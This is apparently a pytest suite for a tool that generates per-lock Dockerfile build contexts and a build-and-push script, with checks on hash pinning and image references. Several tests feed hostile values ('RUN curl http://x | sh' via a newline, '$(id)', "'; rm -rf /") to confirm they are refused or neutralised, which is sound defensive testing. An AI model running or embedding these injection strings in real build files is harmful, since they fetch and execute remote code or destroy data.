"""Step image build contexts: one per distinct lock, the Dockerfile made from ``install_commands``,
build.sh, image references and base-image pinning, hostile values; and an "image" built as a fresh
venv by running ``install_commands`` against real hashed locks (there is no Docker engine here)."""
from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from same_nb.errors import SameError
from same_nb.kubeflow.images import (
    BUILD_DIR,
    BUNDLE_PATH,
    LOCAL_REPOSITORY,
    image_reference,
    install_commands,
    lock_id,
    lock_sha256,
    write_image_contexts,
)

SIX = ("six==1.17.0 \\\n    --hash=sha256:4721f391ed90541fddacab5acf947aa0d3dc7d27b2e1e8eda2be8970586c3274 \\\n"
       "    --hash=sha256:ff70335d468e7eb6ec65b95b99d3a2836546063f63acc5171de367e834932a81\n")
OTHER = "# another step's lock\n" + SIX
UV = "uv==0.13.9 \\\n    --hash=sha256:" + "a" * 64 + "\n"
DIGEST = "sha256:" + "0123456789abcdef" * 4
INSTRUCTIONS = ("FROM", "COPY", "RUN", "ENV")


@pytest.fixture
def bundle(tmp_path) -> Path:
    path = tmp_path / "bundle.tar.gz"
    path.write_bytes(b"\x1f\x8b bundle bytes")
    return path


def plan_for(tmp_path, bundle, locks=None, **kwargs):
    options = {"base_image": f"python:3.11-slim@{DIGEST}", "index_url": None, "uv_lock": UV, "bundle": bundle,
               "image": "registry.example.com/team/churn"} | kwargs
    return write_image_contexts(tmp_path / "out", locks or {"load": SIX, "train": SIX, "report": OTHER}, **options)


def dockerfile_lines(context: Path) -> list[str]:
    lines = (context / "Dockerfile").read_text(encoding="utf-8").splitlines()
    # every line is a comment or an instruction, none continues onto the next
    assert all(line.startswith("# ") or line.split(" ", 1)[0] in INSTRUCTIONS for line in lines), lines
    assert not any(line.endswith("\\") for line in lines)
    return [line for line in lines if not line.startswith("#")]


def test_one_context_per_distinct_lock(tmp_path, bundle):
    plan = plan_for(tmp_path, bundle)
    six, other = lock_id(SIX), lock_id(OTHER)
    assert plan.lock_ids == {"load": six, "train": six, "report": other}
    assert plan.images == {"load": f"registry.example.com/team/churn:{six}", "train": f"registry.example.com/team/churn:{six}",
                           "report": f"registry.example.com/team/churn:{other}"}
    images_dir = tmp_path / "out" / "kfp" / "images"
    assert plan.contexts == {six: images_dir / six, other: images_dir / other}
    for key, lock in ((six, SIX), (other, OTHER)):
        context = plan.contexts[key]
        assert sorted(p.name for p in context.iterdir()) == ["Dockerfile", "bundle.tar.gz", "requirements.txt", "uv.txt"]
        assert (context / "requirements.txt").read_text() == lock and (context / "uv.txt").read_text() == UV
        assert (context / "bundle.tar.gz").read_bytes() == bundle.read_bytes()
        assert plan.lock_sha256[key] == lock_sha256(lock) and key == plan.lock_sha256[key][:12]
    assert plan.warnings == []


def test_dockerfile_runs_install_commands(tmp_path, bundle):
    plan = plan_for(tmp_path, bundle, index_url="https://pypi.example.com/simple")
    key = lock_id(SIX)
    lines = dockerfile_lines(plan.contexts[key])
    assert lines[0] == f"FROM python:3.11-slim@{DIGEST}"
    assert lines[1] == f"COPY uv.txt requirements.txt {BUILD_DIR}/"
    runs = [json.loads(line[len("RUN "):]) for line in lines if line.startswith("RUN ")]
    assert runs == install_commands("python3", BUILD_DIR, "https://pypi.example.com/simple")
    assert runs[0][:8] == ["python3", "-m", "pip", "install", "--no-cache-dir", "--require-hashes", "--no-deps", "-r"]
    assert "--system" in runs[1] and "--require-hashes" in runs[1] and runs[1][-2:] == [
        "--index-url", "https://pypi.example.com/simple"]
    assert lines[-2] == f"COPY bundle.tar.gz {BUNDLE_PATH}"
    assert lines[-1] == f"ENV SAME_NB_BUNDLE={BUNDLE_PATH} SAME_NB_LOCK_SHA256={lock_sha256(SIX)}"
    assert "Steps that run it: load, train." in (plan.contexts[key] / "Dockerfile").read_text()


def test_build_script_builds_and_pushes_each_image(tmp_path, bundle):
    plan = plan_for(tmp_path, bundle, platform="linux/x86_64")
    six, other = lock_id(SIX), lock_id(OTHER)
    expected = []
    for key in sorted((six, other)):
        ref = f"registry.example.com/team/churn:{key}"
        expected += [["docker", "build", "--platform", "linux/amd64", "-t", ref, key], ["docker", "push", ref]]
    assert plan.commands == expected
    text = plan.script.read_text()
    assert plan.script == tmp_path / "out" / "kfp" / "images" / "build.sh" and os.access(plan.script, os.X_OK)
    subprocess.run(["sh", "-n", str(plan.script)], check=True)
    commands = [shlex.split(line) for line in text.splitlines() if line.startswith("docker ")]
    assert commands == expected


def test_recompiling_rewrites_nothing_and_drops_stale_contexts(tmp_path, bundle):
    plan = plan_for(tmp_path, bundle)
    stamps = {p: p.stat().st_mtime_ns for c in plan.contexts.values() for p in c.iterdir()}
    again = plan_for(tmp_path, bundle)
    assert again == plan and {p: p.stat().st_mtime_ns for p in stamps} == stamps
    fewer = plan_for(tmp_path, bundle, locks={"load": SIX})
    assert sorted(p.name for p in (tmp_path / "out" / "kfp" / "images").iterdir()) == sorted(["build.sh", lock_id(SIX)])
    assert fewer.lock_ids == {"load": lock_id(SIX)}


def test_image_references():
    assert image_reference("registry.example.com/team/churn", "abc123abc123") == "registry.example.com/team/churn:abc123abc123"
    assert image_reference("localhost:5000/churn", "abc123abc123") == "localhost:5000/churn:abc123abc123"
    assert image_reference("registry.example.com/team/churn:v1", "abc123abc123") == "registry.example.com/team/churn:v1"
    assert image_reference(f"churn@{DIGEST}", "abc123abc123") == f"churn@{DIGEST}"


def test_one_tagged_image_for_several_locks_is_refused(tmp_path, bundle):
    with pytest.raises(SameError, match=r"environment.image: registry.example.com/team/churn:v1 names one image, "
                                        r"but the steps need 2 .* give a repository without tag or digest "
                                        r"\(e.g. registry.example.com/team/churn\)"):
        plan_for(tmp_path, bundle, image="registry.example.com/team/churn:v1")
    plan = plan_for(tmp_path, bundle, locks={"a": SIX, "b": SIX}, image="registry.example.com/team/churn:v1")
    assert set(plan.images.values()) == {"registry.example.com/team/churn:v1"}


def test_unpinned_base_image_and_missing_repository_are_warnings(tmp_path, bundle):
    plan = plan_for(tmp_path, bundle, base_image="python:3.11-slim", image=None)
    pin, local = plan.warnings
    assert "python:3.11-slim is not pinned to a digest" in pin
    assert "docker buildx imagetools inspect python:3.11-slim" in pin
    assert "environment.base_image: python:3.11-slim@sha256:<digest>" in pin
    assert f"{LOCAL_REPOSITORY}:<lock id>" in local and "environment.image" in local
    assert plan.images["load"] == f"{LOCAL_REPOSITORY}:{lock_id(SIX)}"
    assert "(no tag: latest)" in plan_for(tmp_path, bundle, base_image="python").warnings[0]


def test_unhashed_locks_are_refused(tmp_path, bundle):
    with pytest.raises(SameError, match="the locks of report have no hashes"):
        plan_for(tmp_path, bundle, locks={"load": SIX, "report": "six==1.17.0\n"})
    with pytest.raises(SameError, match="the lock of uv .* has no hashes"):
        plan_for(tmp_path, bundle, uv_lock="uv==0.13.9\n")


@pytest.mark.parametrize("option, value, message", [
    ("base_image", "python:3.11\nRUN curl http://x | sh", "environment.base_image: 'python:3.11\\\\nRUN curl"),
    ("base_image", "python:$(id)", "environment.base_image: 'python:\\$\\(id\\)' is not an image reference"),
    ("base_image", "python:3.11 AS evil", "is not an image reference"),
    ("image", "registry.example.com/team/churn'; rm -rf /", "environment.image: .* is not an image reference"),
    ("image", "registry.example.com/team/churn\n", "environment.image: .* is not an image reference"),
    ("index_url", "https://pypi.example.com/simple\"]\nRUN [\"id", "environment.index_url: .* is not a URL"),
    ("index_url", "https://pypi.example.com/simple $(id)", "environment.index_url: .* is not a URL"),
    ("index_url", "https://user:secret@pypi.example.com/simple", "must not hold credentials"),
    ("index_url", "ftp://pypi.example.com/simple", "is not an https:// URL"),
])
def test_hostile_values_are_refused_before_any_file_is_written(tmp_path, bundle, option, value, message):
    with pytest.raises(SameError, match=message):
        plan_for(tmp_path, bundle, **{option: value})
    assert not (tmp_path / "out").exists()


def test_hostile_step_names_stay_inside_the_comment(tmp_path, bundle):
    name = "evil\nRUN curl http://x | sh \\"
    plan = plan_for(tmp_path, bundle, locks={name: SIX})
    lines = dockerfile_lines(plan.contexts[lock_id(SIX)])
    assert [line.split(" ", 1)[0] for line in lines] == ["FROM", "COPY", "RUN", "RUN", "COPY", "ENV"]


def test_index_url_characters_a_url_may_hold_stay_one_json_word(tmp_path, bundle):
    url = "https://pypi.example.com/simple;$x?a=1&b=$(id)"
    plan = plan_for(tmp_path, bundle, index_url=url)
    runs = [json.loads(line[4:]) for line in dockerfile_lines(plan.contexts[lock_id(SIX)]) if line.startswith("RUN ")]
    assert [run[-1] for run in runs] == [url, url]


# ---- an "image" built as a venv -----------------------------------------------------------------------

def _hashed_lock(tmp_path: Path, requirement: str) -> str:
    source = tmp_path / f"{requirement.split('=')[0]}.in"
    source.write_text(requirement + "\n")
    done = subprocess.run([sys.executable, "-m", "uv", "pip", "compile", str(source), "--generate-hashes", "--no-header",
                           "--quiet", "--python-version", f"{sys.version_info.major}.{sys.version_info.minor}",
                           "--python-platform", "x86_64-manylinux_2_28"], capture_output=True, text=True, timeout=120)
    if done.returncode:
        pytest.skip(f"cannot lock {requirement} here (no index?): {done.stderr[-300:]}")
    return done.stdout


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_image_install_steps_build_a_working_environment(tmp_path, bundle):
    """Run the Dockerfile's install steps (install_commands) in a fresh venv, as a docker build runs them
    in the base image: uv from its hashed lock with pip, then the step's hashed lock with uv."""
    if sys.platform != "linux" or os.uname().machine != "x86_64":
        pytest.skip("the locks are for x86_64 manylinux")
    import importlib.metadata

    uv_lock = _hashed_lock(tmp_path, f"uv=={importlib.metadata.version('uv')}")
    six_lock = _hashed_lock(tmp_path, "six==1.17.0")
    plan = plan_for(tmp_path, bundle, locks={"step": six_lock}, uv_lock=uv_lock)
    context = plan.contexts[lock_id(six_lock)]
    venv = tmp_path / "image"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, timeout=120)
    python = str(venv / "bin" / "python")
    env = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "PYTHONPATH", "PYTHONHOME")}
    probe = [python, "-c", "import six, sys; assert sys.prefix != sys.base_prefix; print(six.__file__)"]
    assert subprocess.run(probe, capture_output=True, env=env).returncode != 0       # not there before
    for argv in install_commands(python, context, None):
        done = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=300)
        assert done.returncode == 0, (argv, done.stdout[-2000:], done.stderr[-2000:])
    found = subprocess.run(probe, capture_output=True, text=True, env=env, check=True).stdout.strip()
    assert Path(found).is_relative_to(venv)
    tampered = context / "requirements.txt"
    tampered.write_text(six_lock.replace(six_lock.split("--hash=sha256:")[1][:64], "0" * 64, 1)
                        .replace(six_lock.split("--hash=sha256:")[2][:64], "0" * 64, 1))
    subprocess.run([python, "-m", "pip", "uninstall", "-y", "-q", "six"], check=True, env=env)
    done = subprocess.run(install_commands(python, context, None)[1], capture_output=True, text=True, env=env, timeout=300)
    assert done.returncode != 0 and "hash" in done.stderr.lower()     # --require-hashes holds
